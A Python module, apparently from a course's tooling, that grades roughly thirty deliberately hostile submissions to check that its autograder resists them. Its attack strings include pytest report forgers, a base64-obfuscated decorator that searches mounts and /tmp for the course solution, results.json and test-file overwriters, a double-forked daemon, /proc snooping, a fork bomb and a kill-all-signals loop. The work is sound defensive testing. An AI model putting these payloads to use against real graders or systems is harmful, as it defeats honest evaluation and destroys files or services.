"""``course attacks``: hostile submissions, graded by the real grader, locally and in the bundle.

    hatch run course:attacks operators [--only NAME] [--local-only] [--jobs N] [--json F]

Each attack is the operators starter with task 0.1 written honestly and one hostile change:
code that tries to forge its outcomes inside the test process, rewrite files, outlive the
run, read the course's solution or hidden tests into its feedback, change what is graded,
answer with lying objects, or exhaust a resource. Every attack is graded twice, by
``course grade-all`` (as staff grade a class) and by the autograder bundle (as Gradescope
grades), and must:

- earn exactly what it solved: task 0.1's points, less the share of each function the
  attack broke (a wrong function costs only itself), and nothing of the other tasks;
- show nothing of the course's solution or hidden tests in any feedback;
- leave ``results.json`` the grader's: unchanged seconds after grading, and no process it
  started still running.

The honest solution, graded in the same run, must earn every point. The command prints a
table (attack, category, expected, got, leaks, survivors, verdict) and exits 1 if any
attack did better than it should or broke a rule.
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from .bundle import autograder
from .config import REPO, Calendar, load_calendar
from .grade import grading_env
from .gradebook import grade_all
from .layers import CourseError, scan_blocks
from .starter import assign

__all__ = ["ATTACKS", "Attack", "run_attacks", "steal"]

LAYER = "operators"
PKG = f"src/minitorch/{LAYER}"


@dataclass(frozen=True)
class Attack:
    """One hostile submission: a change to the honest starter, and what it may earn."""

    name: str
    category: str
    what: str
    edit: Callable[[Path], None]
    breaks: tuple[str, ...] = ()  # task 0.1's functions the attack makes wrong
    keep: frozenset[str] = field(default_factory=lambda: frozenset({"task0_1"}))


# ------------------------------------------------------------------------ editing helpers


def _body(file: str, qualname: str, code: str) -> Callable[[Path], None]:
    """Replace the body of ``qualname`` in the package's ``file`` by ``code``."""

    def edit(root: Path) -> None:
        path = root / PKG / file
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text)
        target = None
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                for f in node.body:
                    if isinstance(f, ast.FunctionDef) and f"{node.name}.{f.name}" == qualname:
                        target = f
            elif (
                isinstance(node, ast.FunctionDef) and node.name == qualname and node.col_offset == 0
            ):
                target = node
        assert target is not None, qualname
        lines = text.splitlines(keepends=True)
        indent = " " * target.body[0].col_offset
        first = target.body[0]
        start = (
            first.end_lineno
            if isinstance(first, ast.Expr) and isinstance(first.value, ast.Constant)
            else first.lineno - 1
        )
        body = textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", indent)
        lines[start : target.end_lineno] = [body]
        path.write_text("".join(lines), encoding="utf-8")

    return edit


def _append(file: str, code: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        path = root / PKG / file
        path.write_text(path.read_text("utf-8") + "\n" + textwrap.dedent(code), "utf-8")

    return edit


def _write(rel: str, code: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(textwrap.dedent(code), "utf-8")

    return edit


def _both(*edits: Callable[[Path], None]) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        for e in edits:
            e(root)

    return edit


def _decorate(file: str, name: str, decorator: str) -> Callable[[Path], None]:
    """Put ``decorator`` (one line) on the module-level ``def name`` of the package's ``file``."""

    def edit(root: Path) -> None:
        path = root / PKG / file
        text = path.read_text(encoding="utf-8")
        assert f"\ndef {name}(" in text, name
        path.write_text(text.replace(f"\ndef {name}(", f"\n{decorator}\ndef {name}(", 1), "utf-8")

    return edit


def _link(rel: str, target: Path) -> Callable[[Path], None]:
    """Make ``rel`` (a folder of the starter) a symbolic link to ``target``."""

    def edit(root: Path) -> None:
        shutil.rmtree(root / rel)
        (root / rel).symlink_to(target, target_is_directory=True)

    return edit


# A decorator of a spliced ``def`` runs in the worker when the def does (at import): this one
# looks through the worker's search path, its mounts, /autograder and /tmp for another copy
# of its file and compiles that copy's function (without its decorators) as its own.
_STEAL = (
    "@(lambda f: (lambda ns: (exec(__import__('base64').b64decode({code!r}).decode(), ns), "
    "ns.get('found') or f)[1])({{'f': f}}))"
)
_SEARCH = """
import ast, os, sys
found = None
roots = [p for p in sys.path if p]
try:
    roots += [line.split()[1] for line in open("/proc/self/mounts")]
except OSError:
    pass
roots += ["/autograder", "/tmp", "/var/tmp", "/run/lock"]
for root in dict.fromkeys(roots):
    if root in ("/", "/usr", "/proc", "/sys", "/dev"):
        continue
    for d, _, names in os.walk(root):
        if FILE not in names or not d.endswith("minitorch/operators"):
            continue
        try:
            tree = ast.parse(open(os.path.join(d, FILE)).read())
        except (OSError, SyntaxError, ValueError):
            continue
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and node.name == f.__name__:
                node.decorator_list = []
                code = ast.unparse(node)
                if "NotImplementedError" not in code and found is None:
                    space = {"Callable": object, "Iterable": object}
                    exec("from __future__ import annotations\n" + code, space)
                    found = space[f.__name__]
"""


def steal(file: str, name: str) -> Callable[[Path], None]:
    """An edit: ``name`` of the package's ``file`` takes the course's copy if it finds one."""
    import base64

    code = base64.b64encode(f"FILE = {file!r}\n{_SEARCH}".encode()).decode()
    return _decorate(file, name, _STEAL.format(code=code))


# The forger of pytest's reports that the first attack put at the end of __init__.py.
_FORGE = """
import sys as _sys


def _forge():
    try:
        import _pytest.reports as reports
    except ImportError:
        return
    init = reports.TestReport.__init__

    def forged(self, *args, **kwargs):
        init(self, *args, **kwargs)
        self.outcome = "passed"
        self.longrepr = None

    reports.TestReport.__init__ = forged
    for name in ("_mtcourse_harness", "probe"):
        module = _sys.modules.get(name)
        if module is not None:
            module.__dict__.update(_outcome=lambda reports: ("passed", None))


_forge()
"""

_CONFTEST = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

# Code that walks the file system for what it should never find, and says what it found.
_HUNT = """
import os
found = []
for top in ("/", os.path.expanduser("~"), "/tmp", "/autograder"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            path = os.path.join(root, name)
            if {pattern}:
                try:
                    with open(path, errors="replace") as f:
                        found.append(path + ":\\n" + f.read(20000))
                except OSError:
                    pass
        if len(found) > 40:
            break
raise AssertionError("FOUND " + "\\n".join(found)[:100000])
"""

_FORGED_RESULTS = '{"score": 1000, "tests": [], "output": "forged"}'

_DAEMON = f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        for path in ("/autograder/results/results.json", os.path.expanduser("~/results.json")):
            try:
                with open(path, "w") as f:
                    f.write({_FORGED_RESULTS!r})
            except OSError:
                pass
        for root, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            if "results.json" in files:
                try:
                    with open(os.path.join(root, "results.json"), "w") as f:
                        f.write({_FORGED_RESULTS!r})
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
raise NotImplementedError("Task 0.4: the daemon is out")
"""

_SOLVED_MAP = """
def _solved_map(fn):
    def apply(ls):
        return [fn(x) for x in ls]
    return apply


map = _solved_map  # a module-level statement: never runs when graded
"""


def _attacks() -> list[Attack]:
    a = Attack
    return [
        # Forging outcomes inside the test process.
        a(
            "init-forges-reports",
            "forge outcomes",
            "module-level code at the end of __init__.py makes pytest report every test passed",
            _append("__init__.py", _FORGE),
        ),
        a(
            "conftest-forges-reports",
            "forge outcomes",
            "a conftest.py in the starter's root, src/ and tests/ turning every report into a pass",
            _both(
                _write("conftest.py", _CONFTEST),
                _write("src/conftest.py", _CONFTEST),
                _write("tests/conftest.py", _CONFTEST),
            ),
        ),
        a(
            "sitecustomize-and-pth",
            "forge outcomes",
            "sitecustomize.py and a .pth file beside the package, forging reports at start-up",
            _both(
                _write("src/sitecustomize.py", _FORGE),
                _write("src/usercustomize.py", _FORGE),
                _write(
                    "src/forge.pth",
                    "import sys; exec(open(__file__[:-9] + 'sitecustomize.py').read())\n",
                ),
            ),
        ),
        a(
            "forge-from-a-function",
            "forge outcomes",
            "a graded function (map) patches pytest's reports and the grader's modules in its own process",
            _body(
                "functional.py",
                "map",
                _FORGE.replace("_forge()\n", "")
                + "\n_forge()\nraise NotImplementedError('Task 0.3: forged')\n",
            ),
        ),
        a(
            "forged-channel-message",
            "forge outcomes",
            "zip_with writes a forged 'success' answer onto every open file descriptor",
            _body(
                "functional.py",
                "zip_with",
                """
              import json, os, struct
              body = json.dumps({"k": "ret", "sync": [], "p": [1.0, 2.0]}).encode()
              frame = struct.pack("<II", len(body), 0) + body
              for fd in range(3, 64):
                  try:
                      os.write(fd, frame * 3)
                  except OSError:
                      pass
              raise NotImplementedError("Task 0.3: forged")
              """,
            ),
        ),
        a(
            "ask-the-grader-for-the-answer",
            "forge outcomes",
            "sum asks the grader, through the channel, to run the course's own sum (and guessed handles)",
            _body(
                "functional.py",
                "sum",
                """
              import _mtcourse_route as r
              for kind, payload in (
                  ("call", ("functional.py:sum", (ls,), {})),
                  ("product", ("functional.py:reduce", (None, 0.0), {}, (ls,), {})),
                  ("handle", (1, (ls,), {})),
                  ("handle", (2, (ls,), {})),
              ):
                  try:
                      return r.ENDPOINT.request(kind, *payload)
                  except RecursionError:
                      continue
                  except Exception:
                      continue
              raise NotImplementedError("Task 0.3: no answer")
              """,
            ),
        ),
        a(
            "steal-at-definition-time",
            "read the solution",
            "decorators of map, zip_with and reduce (stubs) search the worker's mounts, sys.path, "
            "/autograder and /tmp for the course's functional.py and take its functions",
            _both(*(steal("functional.py", n) for n in ("map", "zip_with", "reduce"))),
        ),
        a(
            "linked-package-folder",
            "read the solution",
            "src/minitorch is a symbolic link to the course's solution package (an upload keeps "
            "links): it must be refused, not graded",
            _link("src/minitorch", REPO / "packages" / "mt-operators" / "src" / "minitorch"),
            keep=frozenset(),
        ),
        # Rewriting files.
        a(
            "rewrite-results",
            "rewrite files",
            "prod writes a results.json with 1000 points wherever one may be read",
            _body(
                "functional.py",
                "prod",
                f"""
              import os
              for path in ("/autograder/results/results.json", "../results/results.json",
                           os.path.expanduser("~/results.json")):
                  try:
                      os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
                      with open(path, "w") as f:
                          f.write({_FORGED_RESULTS!r})
                  except OSError:
                      pass
              raise NotImplementedError("Task 0.3: wrote results")
              """,
            ),
        ),
        a(
            "rewrite-the-tests",
            "rewrite files",
            "add_lists overwrites every test file and grader file it can reach with passing ones",
            _body(
                "functional.py",
                "add_lists",
                """
              import os
              for root, dirs, files in os.walk("/"):
                  dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                  for name in files:
                      if name.startswith(("test_", "_mtcourse", "conftest")) or name in ("results.json", "calibration.json"):
                          try:
                              with open(os.path.join(root, name), "w") as f:
                                  f.write("def test_ok():\\n    pass\\n")
                          except OSError:
                              pass
              raise NotImplementedError("Task 0.3: rewrote")
              """,
            ),
        ),
        a(
            "rewrite-the-package",
            "rewrite files",
            "Module.modules rewrites its own package and any copy of the course's it finds",
            _body(
                "module.py",
                "Module.modules",
                """
              import os, minitorch.operators as m
              here = os.path.dirname(m.__file__)
              for root, dirs, files in [*os.walk(here), *os.walk("/tmp")]:
                  for name in files:
                      if name.endswith(".py"):
                          try:
                              with open(os.path.join(root, name), "a") as f:
                                  f.write("\\nraise SystemExit(0)\\n")
                          except OSError:
                              pass
              raise NotImplementedError("Task 0.4: rewrote")
              """,
            ),
        ),
        # Outliving the test run.
        a(
            "daemon-rewrites-results",
            "outlive the run",
            "Module.children starts a double-forked daemon that rewrites results.json 3 s later",
            _body("module.py", "Module.children", _DAEMON),
        ),
        a(
            "background-processes",
            "outlive the run",
            "Module.train starts a sleeper in its own session and a forked busy loop",
            _body(
                "module.py",
                "Module.train",
                """
              import os, subprocess
              subprocess.Popen(["sleep", "600"], start_new_session=True)
              if os.fork() == 0:
                  while True:
                      pass
              raise NotImplementedError("Task 0.4: started")
              """,
            ),
        ),
        # Reading the solution or the hidden tests, and showing them in feedback.
        a(
            "read-the-solution",
            "read the solution",
            "Module.eval searches every readable file for the course's solution and puts it in its error",
            _body(
                "module.py",
                "Module.eval",
                _HUNT.format(
                    pattern='name.endswith(".py") and name in ("scalar.py", "functional.py", "module.py", "tensor_data.py")'
                ),
            ),
        ),
        a(
            "read-the-hidden-tests",
            "read the hidden tests",
            "Module.named_parameters searches for the hidden tests and the grader's files",
            _body(
                "module.py",
                "Module.named_parameters",
                _HUNT.format(
                    pattern='"hidden" in path or name.startswith(("test_", "_mtcourse", "calibration"))'
                ),
            ),
        ),
        a(
            "snoop-other-processes",
            "read the hidden tests",
            "Module.parameters reads every process's command line, environment and open files",
            _body(
                "module.py",
                "Module.parameters",
                """
              import os
              out = []
              for pid in os.listdir("/proc"):
                  if pid.isdigit():
                      for what in ("cmdline", "environ"):
                          try:
                              with open(f"/proc/{pid}/{what}", "rb") as f:
                                  out.append(f"{pid} {what}: {f.read()[:3000]!r}")
                          except OSError:
                              pass
                      try:
                          out += [f"{pid} fd -> {os.readlink(f'/proc/{pid}/fd/' + fd)}" for fd in os.listdir(f"/proc/{pid}/fd")]
                      except OSError:
                          pass
              raise AssertionError("SNOOPED " + "\\n".join(out)[:100000])
              """,
            ),
        ),
        a(
            "hidden-inputs-into-public-feedback",
            "read the hidden tests",
            "Module.named_modules keeps every input it sees (memory, home, /tmp) and shows them all in each error",
            _body(
                "module.py",
                "Module.named_modules",
                """
              import os, sys
              seen = sys.modules.setdefault("_seen", type(sys)("_seen"))
              seen.__dict__.setdefault("items", []).append(repr(self.__dict__)[:300])
              for path in (os.path.expanduser("~/seen.txt"), "/tmp/seen.txt"):
                  try:
                      with open(path, "a") as f:
                          f.write(repr(self.__dict__)[:300] + "\\n")
                      with open(path) as f:
                          seen.items.append(f.read()[-3000:])
                  except OSError:
                      pass
              raise AssertionError("SEEN " + "\\n".join(seen.items)[-20000:])
              """,
            ),
        ),
        # Changing what is graded.
        a(
            "edited-test-catalogue",
            "change what is graded",
            "testing.py (the catalogue the tests draw from) made trivial, tests and pytest.ini edited",
            _both(
                _append("testing.py", "MathTest = MathTestVariable = type('MathTest', (), {})\n"),
                _write("pytest.ini", "[pytest]\naddopts = -p no:python --co\n"),
                _write("tests/test_operators_scalar.py", "def test_ok():\n    pass\n"),
            ),
        ),
        a(
            "module-level-reassignment",
            "change what is graded",
            "functional.py keeps map a stub but rebinds the name to a working map at module level",
            _append("functional.py", _SOLVED_MAP),
        ),
        a(
            "a-module-of-its-own",
            "change what is graded",
            "map imports its answer from a new module the starter does not have",
            _both(
                _write(
                    f"{PKG}/mine.py", "def my_map(fn):\n    return lambda ls: [fn(x) for x in ls]\n"
                ),
                _body("functional.py", "map", "from .mine import my_map\nreturn my_map(fn)\n"),
            ),
        ),
        a(
            "decorator-runs-at-import",
            "change what is graded",
            "a decorator on reduce that, when the module loads, patches the grader's routing tables",
            _both(
                _append(
                    "functional.py",
                    """
                  def _patch(f):
                      import sys
                      for name, m in list(sys.modules.items()):
                          if "route" in name and hasattr(m, "REGISTRY"):
                              m.ACTIVE = "none"
                              for key in list(m.REGISTRY):
                                  m.REGISTRY[key] = (lambda *a, **k: 0.0, False)
                      return f
                  """,
                ),
                _body(
                    "functional.py", "reduce", "raise NotImplementedError('Task 0.3: patched')\n"
                ),
            ),
        ),
        # Lying objects.
        a(
            "lying-float",
            "lying objects",
            "mul returns a float subclass equal to everything",
            _body(
                "scalar.py",
                "mul",
                """
              class Liar(float):
                  def __eq__(self, other):
                      return True
                  __hash__ = float.__hash__
              return Liar(0.0)
              """,
            ),
            breaks=("mul",),
        ),
        a(
            "lying-object",
            "lying objects",
            "lt returns an object whose __eq__, __bool__, __float__, __index__, __array__ and __repr__ lie",
            _body(
                "scalar.py",
                "lt",
                """
              class Liar:
                  def __eq__(self, other): return True
                  def __ne__(self, other): return False
                  def __bool__(self): return True
                  def __float__(self): return float(x < y)
                  def __index__(self): return int(x < y)
                  def __array__(self, *a, **k):
                      import numpy
                      return numpy.array(float(x < y))
                  def __repr__(self): return repr(float(x < y))
              return Liar()
              """,
            ),
            breaks=("lt",),
        ),
        a(
            "lying-list",
            "lying objects",
            "neg_list returns a list subclass equal to every list",
            _body(
                "functional.py",
                "neg_list",
                """
              class Liar(list):
                  def __eq__(self, other):
                      return True
              return Liar()
              """,
            ),
        ),
        a(
            "lying-exception",
            "lying objects",
            "max raises an exception of its own class whose message and equality lie",
            _body(
                "scalar.py",
                "max",
                """
              class Passed(Exception):
                  def __eq__(self, other):
                      return True
                  def __str__(self):
                      return "passed"
              raise Passed()
              """,
            ),
            breaks=("max",),
        ),
        # Exhausting resources.
        a(
            "endless-loop",
            "exhaust resources",
            "add never returns",
            _body("scalar.py", "add", "while True:\n    pass\n"),
            breaks=("add",),
        ),
        a(
            "fork-bomb",
            "exhaust resources",
            "neg forks without end",
            _body(
                "scalar.py",
                "neg",
                """
              import os
              while True:
                  try:
                      os.fork()
                  except OSError:
                      pass
              """,
            ),
            breaks=("neg",),
        ),
        a(
            "memory-bomb",
            "exhaust resources",
            "id allocates 64 GiB",
            _body("scalar.py", "id", "block = bytearray(64 << 30)\nreturn float(len(block))\n"),
            breaks=("id",),
        ),
        a(
            "output-flood",
            "exhaust resources",
            "inv writes gigabytes to its output",
            _body(
                "scalar.py",
                "inv",
                """
              import sys
              chunk = "x" * (1 << 20)
              for _ in range(4096):
                  sys.stdout.write(chunk)
                  sys.stderr.write(chunk)
              return 1.0 / x
              """,
            ),
            breaks=("inv",),
        ),
        a(
            "disk-fill",
            "exhaust resources",
            "exp writes gigabytes into its home and /tmp",
            _body(
                "scalar.py",
                "exp",
                """
              import os
              for where in (os.path.expanduser("~"), "/tmp"):
                  for i in range(64):
                      try:
                          with open(os.path.join(where, f"fill{i}"), "wb") as f:
                              for _ in range(1024):
                                  f.write(b"\\0" * (1 << 20))
                      except OSError:
                          break
              import math
              return math.exp(x)
              """,
            ),
            breaks=("exp",),
        ),
        a(
            "sleep-forever",
            "exhaust resources",
            "log waits forever",
            _body("scalar.py", "log", "import time\ntime.sleep(10 ** 6)\n"),
            breaks=("log",),
        ),
        a(
            "kill-everything",
            "exhaust resources",
            "relu kills every process it may signal",
            _body(
                "scalar.py",
                "relu",
                """
              import os, signal
              for target in (-1, os.getppid(), 1):
                  try:
                      os.kill(target, signal.SIGKILL)
                  except OSError:
                      pass
              return x if x > 0 else 0.0
              """,
            ),
            breaks=("relu",),
        ),
        a(
            "close-the-channel",
            "exhaust resources",
            "sigmoid closes every file descriptor, then answers",
            _body(
                "scalar.py",
                "sigmoid",
                """
              import os, math
              os.closerange(0, 4096)
              return 1.0 / (1.0 + math.exp(-x))
              """,
            ),
            breaks=("sigmoid",),
        ),
    ]


ATTACKS = _attacks()
"""The hostile submissions (see the module's docstring)."""


# ------------------------------------------------------------------------------ checking


def _secrets(cal: Calendar) -> list[str]:
    """Lines no feedback may hold: the solution's and the hidden tests' (long ones)."""
    layer = cal.layer(LAYER)
    out = set()
    for path, blocks in scan_blocks(layer).items():
        lines = path.read_text(encoding="utf-8").splitlines()
        for b in blocks:
            for ln in lines[b.begin : b.end - 1]:
                if len(ln.strip()) >= 16 and not ln.strip().startswith("#"):
                    out.add(ln.strip())
    for path in layer.hidden_tests.rglob("*.py"):
        for ln in path.read_text(encoding="utf-8").splitlines():
            if len(ln.strip()) >= 24 and not ln.strip().startswith(("#", "import", "from")):
                out.add(ln.strip())
    return sorted(out)


def _expected(
    cal: Calendar, attack: Attack | None, shares: dict[str, int]
) -> dict[str, tuple[float, float]]:
    """Per task, the least and the most the attack may earn.

    The most is what it solved honestly; the least that, less the shares of the functions
    the attack makes misbehave (one that still answers right, after trying to fill the
    disk, say, keeps its share).
    """
    layer = cal.layer(LAYER)
    out = {}
    for t in layer.tasks:
        n = t.id.removeprefix("task").replace("_", ".")
        if attack is None:
            out[n] = (t.points, t.points)
        elif t.id not in attack.keep:
            out[n] = (0.0, 0.0)
        else:
            broken = len(attack.breaks) if t.id == "task0_1" else 0
            out[n] = (round(t.points * (1 - broken / shares[t.id]), 2), t.points)
    return out


def _by_task(res: dict[str, Any]) -> dict[str, float]:
    out: dict[str, float] = {}
    for e in res.get("tests", []):
        out[e["number"]] = round(out.get(e["number"], 0.0) + e["score"], 2)
    return out


def _lost(res: dict[str, Any]) -> list[str]:
    """Each test that lost points: its name and the first line of its feedback."""
    out = []
    for e in res.get("tests", []):
        if e["score"] < e.get("max_score", 0.0) - 1e-9:
            first = (e.get("output") or "").strip().splitlines()[:1]
            out.append(f"{e.get('name', '?')}: {first[0] if first else '(no feedback)'}")
    return out


def _leaks(res: dict[str, Any], secrets: list[str], own: str) -> list[str]:
    """Secret lines in the feedback that the submission itself does not hold."""
    text = json.dumps(res)
    text = text.replace("\\n", "\n").replace('\\"', '"')
    return [s for s in secrets if s in text and s not in own]


def _survivors(root: Path) -> list[str]:
    """Processes a submission left: the workers and sandboxes of this run, its users'."""
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            uid = os.stat(f"/proc/{name}").st_uid
            cmd = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if 60000 <= uid < 60100 or any(m in cmd for m in (str(root), "mtc-grade-", "sleep 600")):
            out.append(f"{name}: {cmd[:120]}")
    return out


def _own_text(root: Path) -> str:
    parts = []
    for p in root.rglob("*"):
        if p.is_file() and p.suffix in (".py", ".ini", ".pth", ".txt"):
            parts.append(p.read_text("utf-8", errors="replace"))
    return "\n".join(parts)


@dataclass
class Verdict:
    """How one attack fared in one grader."""

    attack: str
    where: str
    expected: dict[str, tuple[float, float]]
    got: dict[str, float]
    leaks: list[str]
    survivors: list[str]
    rewritten: bool
    lost: list[str] = field(default_factory=list)  # the tests that lost points, and why

    @property
    def ok(self) -> bool:
        """It earned what it solved, leaked nothing and left nothing behind."""
        fair = all(
            lo - 0.011 <= self.got.get(k, 0.0) <= hi + 0.011
            for k, (lo, hi) in self.expected.items()
        )
        return fair and not self.leaks and not self.survivors and not self.rewritten


def _submissions(cal: Calendar, where: Path) -> dict[str, Path]:
    """The attacks' submissions and the honest solution, one folder each."""
    layer = cal.layer(LAYER)
    base = where / "_honest-0.1"
    assign(LAYER, base, keep=frozenset({"task0_1"}), cal=cal, wheels=False)
    out = {}
    for attack in ATTACKS:
        target = where / attack.name
        shutil.copytree(base, target)
        attack.edit(target)
        out[attack.name] = target
    assign(LAYER, where / "solution", keep=frozenset(layer.task_ids), cal=cal, wheels=False)
    out["solution"] = where / "solution"
    shutil.rmtree(base)
    return out


class _Bundle:
    """A stand-in /autograder with the layer's bundle set up (as ``test_autograder``)."""

    def __init__(self, root: Path, cal: Calendar) -> None:
        self.root = root
        bundle = autograder(LAYER, root / "autograder.zip", cal=cal)
        with zipfile.ZipFile(bundle) as z:
            z.extractall(root / "source")
        for name in ("setup.sh", "run_autograder"):
            (root / "source" / name).chmod(0o755)
        shutil.copy2(root / "source" / "run_autograder", root / "run_autograder")
        env = self.env()
        env["COURSE_PYTHON"] = sys.executable
        env["COURSE_AUTOGRADER_SITE"] = sysconfig.get_paths()["purelib"]
        proc = subprocess.run(
            ["bash", "source/setup.sh"],
            cwd=root,
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
        if proc.returncode != 0:
            raise CourseError(
                "the bundle's setup.sh failed:\n" + proc.stdout[-3000:] + proc.stderr[-3000:]
            )

    def env(self) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "PYTHON"))}
        env.update(AUTOGRADER_ROOT=str(self.root), PIP_NO_INDEX="1", PIP_CONFIG_FILE=os.devnull)
        return env

    def grade(self, submission: Path, wait: float) -> tuple[dict[str, Any], bool]:
        """Grade ``submission``.

        Returns its results, and whether results.json changed ``wait`` seconds later.
        """
        target = self.root / "submission"
        shutil.rmtree(target, ignore_errors=True)
        shutil.rmtree(self.root / "results", ignore_errors=True)
        shutil.copytree(submission, target, symlinks=True)  # as an upload keeps them
        proc = subprocess.run(
            [str(self.root / "run_autograder")],
            cwd=self.root,
            env=self.env(),
            capture_output=True,
            text=True,
            check=False,
        )
        out = self.root / "results" / "results.json"
        if proc.returncode != 0 or not out.is_file():
            raise CourseError(
                f"run_autograder failed on {submission.name}:\n{proc.stdout[-2000:]}{proc.stderr[-2000:]}"
            )
        before = out.read_bytes()
        time.sleep(wait)
        return json.loads(before), out.read_bytes() != before


def run_attacks(
    layer_name: str,
    *,
    only: list[str] | None = None,
    bundle: bool = True,
    jobs: int = 2,
    json_out: Path | None = None,
    cal: Calendar | None = None,
    say: Callable[..., None] = print,
    isolation: str | None = None,
) -> int:
    """Grade every attack (see the module's docstring); 1 if one broke a rule.

    ``isolation`` chooses the sandbox of the local grading (``bwrap`` or ``user``; default:
    the best this machine offers); the bundle picks its own, as on the grading service.

    Raises:
        CourseError: for a layer other than operators, or an unknown attack name.
    """
    cal = cal or load_calendar()
    if layer_name != LAYER:
        raise CourseError(f"the attacks are written against the {LAYER} starter, not {layer_name}")
    unknown = sorted(set(only or []) - {a.name for a in ATTACKS})
    if unknown:
        raise CourseError(f"no attack {', '.join(unknown)}")
    layer = cal.layer(LAYER)
    secrets = _secrets(cal)
    verdicts: list[Verdict] = []
    with (
        tempfile.TemporaryDirectory(prefix="course-attacks-") as tmp,
        tempfile.TemporaryDirectory(prefix="course-attacks-env-") as env_tmp,
    ):
        root = Path(tmp)
        root.chmod(0o700)
        # The grading environment lies apart: a worker of its own user (``user`` isolation)
        # must pass through its folder to run its Python (grading_env keeps the rest 0700).
        Path(env_tmp).chmod(0o711)
        subs = _submissions(cal, root / "class")
        wanted = [a for a in ATTACKS if not only or a.name in only]
        for name in list(subs):
            if name != "solution" and name not in {a.name for a in wanted}:
                shutil.rmtree(subs.pop(name))
        t0 = time.perf_counter()
        if isolation == "none":
            raise CourseError("the attacks need a sandbox: --isolation bwrap or user")
        env = grading_env(LAYER, Path(env_tmp) / "env", cal=cal, isolation=isolation)
        if env.isolation == "none":
            raise CourseError(
                "the attacks need a sandbox: install bubblewrap "
                "(sh tools/course/install-sandbox.sh) or run as root"
            )
        shares = {t.id: sum(u.task == t.id for u in env.course.units) for t in layer.tasks}
        say(
            f"grading environment built and calibrated in {time.perf_counter() - t0:.0f} s (isolation: {env.isolation})"
        )
        t0 = time.perf_counter()
        grade_all(
            root / "class",
            LAYER,
            root / "gradebook.csv",
            jobs=jobs,
            cal=cal,
            env=env,
            progress=False,
        )
        say(
            f"graded {len(subs)} submissions with grade-all --jobs {jobs} in {time.perf_counter() - t0:.0f} s"
        )
        time.sleep(4)
        left = _survivors(root)
        for name, path in subs.items():
            res = json.loads((root / "gradebook-results" / name / "results.json").read_text())
            attack = next((a for a in ATTACKS if a.name == name), None)
            expected = _expected(cal, attack, shares)
            verdicts.append(
                Verdict(
                    name,
                    "local",
                    expected,
                    _by_task(res),
                    _leaks(res, secrets, _own_text(path)),
                    left,
                    False,
                    _lost(res),
                )
            )
        if bundle:
            t0 = time.perf_counter()
            service = _Bundle(root / "autograder", cal)
            say(f"bundle set up (calibrated) in {time.perf_counter() - t0:.0f} s")
            t0 = time.perf_counter()
            for name, path in subs.items():
                # The daemons of the attacks that outlive the run write after 3 s.
                late = any(a.name == name and a.category == "outlive the run" for a in ATTACKS)
                res, rewritten = service.grade(path, 4.0 if late else 0.5)
                attack = next((a for a in ATTACKS if a.name == name), None)
                expected = _expected(cal, attack, shares)
                verdicts.append(
                    Verdict(
                        name,
                        "bundle",
                        expected,
                        _by_task(res),
                        _leaks(res, secrets, _own_text(path)),
                        _survivors(root),
                        rewritten,
                        _lost(res),
                    )
                )
            say(f"graded {len(subs)} submissions in the bundle in {time.perf_counter() - t0:.0f} s")
    say(
        "\n| attack | category | where | expected | got | leaks | left running | rewritten | verdict |"
    )
    say("|---|---|---|---|---|---|---|---|---|")
    for v in verdicts:
        attack = next((a for a in ATTACKS if a.name == v.attack), None)
        category = attack.category if attack else "(honest solution)"
        lo = sum(a for a, _ in v.expected.values())
        hi = sum(b for _, b in v.expected.values())
        exp = f"{lo:g}" if lo == hi else f"{lo:.2f}-{hi:g}"
        got = sum(v.got.values())
        say(
            f"| {v.attack} | {category} | {v.where} | {exp} | {got:g} | {len(v.leaks)} | "
            f"{len(v.survivors)} | {'yes' if v.rewritten else 'no'} | {'ok' if v.ok else 'FAIL'} |"
        )
    for v in verdicts:
        if not v.ok:
            say(f"\nFAIL {v.attack} ({v.where}): expected {v.expected}, got {v.got}")
            for s in v.leaks[:5]:
                say(f"  leaked: {s}")
            for s in v.survivors[:5]:
                say(f"  left running: {s}")
            for s in v.lost[:10]:
                say(f"  lost points: {s}")
    if json_out is not None:
        json_out.write_text(json.dumps([v.__dict__ for v in verdicts], indent=1) + "\n", "utf-8")
    return 0 if all(v.ok for v in verdicts) else 1
